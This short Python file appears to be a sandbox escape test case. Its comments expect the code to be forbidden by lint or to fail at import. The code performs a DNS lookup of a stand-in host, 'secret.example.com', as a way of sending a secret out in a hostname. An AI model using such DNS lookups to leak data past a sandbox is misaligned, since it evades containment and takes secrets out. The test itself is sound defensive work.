# Sends a secret as the name of a host.
# with lint: FORBIDDEN at lint
# without lint: RUNTIME_ERROR at import
# error: gaierror|PermissionError
# needs: seccomp|namespaces
import socket

raise Escaped(socket.getaddrinfo("secret.example.com", 80))
